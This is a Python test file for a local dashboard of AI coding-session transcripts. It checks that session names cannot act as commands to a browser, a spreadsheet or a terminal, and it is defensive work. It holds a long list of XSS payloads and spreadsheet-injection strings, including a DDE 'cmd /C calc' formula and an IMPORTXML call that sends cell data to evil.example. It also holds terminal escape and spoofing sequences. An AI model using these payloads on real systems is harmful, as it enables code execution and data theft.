"""Names that are commands to whatever shows them: a browser, a spreadsheet, a terminal."""
from __future__ import annotations

import csv
import io
import itertools
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from ledger.export import export
from ledger.http import page
from tests.dashboard.conftest import chromium, visit  # noqa: F401 - fixtures
from tests.ledger.ledgerkit import House, a_session
from tests.processes import Running, command, environment, free_port, until
from tests.processes import get as ask

SCRIPTS = ("<script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<img src=x onerror={}>", "<svg onload={}>", "<svg><script>{}</script></svg>", "<iframe srcdoc='<script>parent.{}</script>'>", "<body onload={}>", "<details open ontoggle={}>",
           "<input autofocus onfocus={}>", "<video><source onerror={}></video>", "<math><mtext><table><mglyph><style><img src=x onerror={}>", "<a href=javascript:{}>x</a>", "<form action=javascript:{}><button>x</button></form>",
           "<object data=javascript:{}>", "<embed src=javascript:{}>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=javascript:{}>", "<style>@import 'javascript:{}'</style>",
           "<marquee onstart={}>", "javascript:{}", "data:text/html,<script>{}</script>", "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "<template><script>{}</script></template>", "<noscript><p title='</noscript><img src=x onerror={}>'>")  # fmt: skip
AROUND = ("{}", "\"'>{}", "</title></textarea>{}", "--><!-- {} -->", "&lt;{}&gt;", "]]>{}", "`{}`", "\u2028{}")
PAYLOADS = [around.format(script.format("window.pwned=1")) for script, around in itertools.product(SCRIPTS, AROUND)]


@pytest.fixture(scope="module")
def agent(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """An agent whose two hundred sessions bear two hundred scripts as title, branch and project."""
    folder, port = tmp_path_factory.mktemp("agent"), free_port()
    projects = folder / "claude" / "projects" / "-home-alice"
    projects.mkdir(parents=True)
    for number, payload in enumerate(PAYLOADS):
        id = f"{number:08x}-1111-4111-8111-111111111111"
        used = {"input_tokens": 5, "output_tokens": number + 1}
        answer = {"type": "assistant", "sessionId": id, "timestamp": "2026-11-22T10:00:00.000Z", "cwd": f"/home/alice/{payload.replace('/', '∕')}", "gitBranch": payload, "requestId": f"r{number}",
                  "message": {"id": f"m{number}", "role": "assistant", "model": payload[:60] if number % 9 == 0 else "claude-opus-4-5", "usage": used}}  # fmt: skip
        lines = [{"type": "summary", "summary": payload, "leafUuid": "x"}, answer]
        (projects / f"{id}.jsonl").write_text("".join(json.dumps(line, separators=(",", ":")) + "\n" for line in lines))
    words = ["local_agent", "run", "--home", str(folder / "home"), "--port", str(port), "--no-defaults", "--transcripts", str(folder / "claude")]
    running = Running(words, port, folder / "log", environment()).start()
    until(lambda: ask(f"{running.url}/api/v1/feed?sessions=300")["summary"]["sessions_total"] == len(PAYLOADS), "the sessions are read")
    yield running
    running.kill()


@pytest.mark.browser
def test_two_hundred_scripts_are_shown_and_none_runs(agent: Running, visit: Any) -> None:  # noqa: F811 - a fixture
    assert len(PAYLOADS) == 200
    page = visit(f"http://localhost:{agent.port}/", wait=".list tbody tr")
    page.on("dialog", lambda dialog: pytest.fail(dialog.message))
    # The button goes as soon as all are there, and nobody can say when: what looks for it presses it in the same breath.
    page.wait_for_function("(all) => { document.querySelector('button.more:enabled')?.click(); return document.querySelectorAll('.list tbody tr').length === all; }", arg=len(PAYLOADS), polling=100, timeout=60_000)
    shown = page.inner_text(".list")
    assert shown.count("window.pwned=1") >= len(PAYLOADS)
    page.click(".list tbody th button >> nth=0")
    page.wait_for_selector(".cost-lines")
    assert page.evaluate("window.pwned") is None
    assert page.evaluate("document.querySelectorAll('main script, main iframe, main object, main embed, main img, main meta, main link, main style').length") == 0
    assert page.evaluate("[...document.querySelectorAll('*')].filter(e => [...e.attributes].some(a => a.name.startsWith('on') || /^javascript:/i.test(a.value))).length") == 0


COMMANDS = ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example\",\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "=IMPORTXML(CONCAT(\"http://evil.example?\",A1),\"//a\")", "\"=1+1", "%0A=1+1", "'=1+1", ";=1+1", ",=1+1", "\u00a0=1+1", "-2+3+cmd|' /C calc'!A0", "@import"]


@pytest.mark.parametrize("title", COMMANDS)
def test_a_name_is_no_command_to_a_spreadsheet(title: str) -> None:
    house = House()
    house.laptop().pushes(a_session("s1", title=title, project=title, git_branch=title))
    text = b"".join(export(house.view(), "session", "csv").chunks).decode("utf-8-sig")
    for row in list(csv.reader(io.StringIO(text)))[1:]:
        assert not [cell for cell in row if cell.lstrip("\t\r\n \u00a0")[:1] in ("=", "+", "@", "＝") or (cell[:1] == "-" and not cell[1:2].isdigit())]


ESCAPES = ["\x1b[31mred", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x9b31m", "\x1b[2J", "a\rb", "a\nfake: line", "\x08\x08\x08", "\x07", "\x1bP1$r\x1b\\", "\u202egnp.exe", "\x00", "\x1b[6n", "\u2028", "\x85"]


@pytest.mark.parametrize("name", ESCAPES, ids=[f"escape {number}" for number in range(len(ESCAPES))])
def test_a_name_is_no_command_to_a_terminal(tmp_path: Path, name: str) -> None:
    from local_agent import cli

    projects = tmp_path / "claude" / "projects" / "-x"
    projects.mkdir(parents=True)
    used = {"input_tokens": 5, "output_tokens": 5}
    answer = {"type": "assistant", "sessionId": "11111111-1111-4111-8111-111111111111", "timestamp": "2026-11-22T10:00:00.000Z", "cwd": f"/x/{name}", "gitBranch": name, "requestId": "r",
              "message": {"id": "m", "role": "assistant", "model": f"m{name}", "usage": used}}  # fmt: skip
    (projects / "11111111-1111-4111-8111-111111111111.jsonl").write_text(json.dumps(answer, separators=(",", ":")) + "\n")
    import contextlib

    out, err = io.StringIO(), io.StringIO()
    options = ["--home", str(tmp_path / "home"), "--no-defaults", "--transcripts", str(tmp_path / "claude"), "--name", name.replace("\0", "") or "x"]
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        for words in (["once"], ["status"], ["doctor"]):
            cli.main([*words, *options])
    told = out.getvalue() + err.getvalue()
    assert not [char for char in told if (ord(char) < 32 and char != "\n") or 127 <= ord(char) < 160 or char in "\u2028\u2029\u202e"]
    assert "\nfake: line" not in told


def test_what_a_command_was_given_wrongly_is_repeated_on_one_line() -> None:
    done = command("local_agent", "once", "--relay", "https://x\x1b[31m\nfake: line", "--no-defaults", "--home", "/nonexistent/home")
    assert done.returncode != 0 and len(done.stderr.strip().splitlines()) == 1 and "\x1b" not in done.stderr


def test_the_policy_of_the_page_lets_no_script_in_but_ours() -> None:
    said = {name: words for name, *words in (part.split() for part in page.POLICY.split(";"))}
    assert said["default-src"] == ["'none'"] and said["script-src"] == said["style-src"] == ["'self'"]
    assert said["base-uri"] == said["form-action"] == said["frame-ancestors"] == ["'none'"]
    assert said["require-trusted-types-for"] == ["'script'"]
    assert not [word for words in said.values() for word in words if "unsafe" in word or word == "*"]
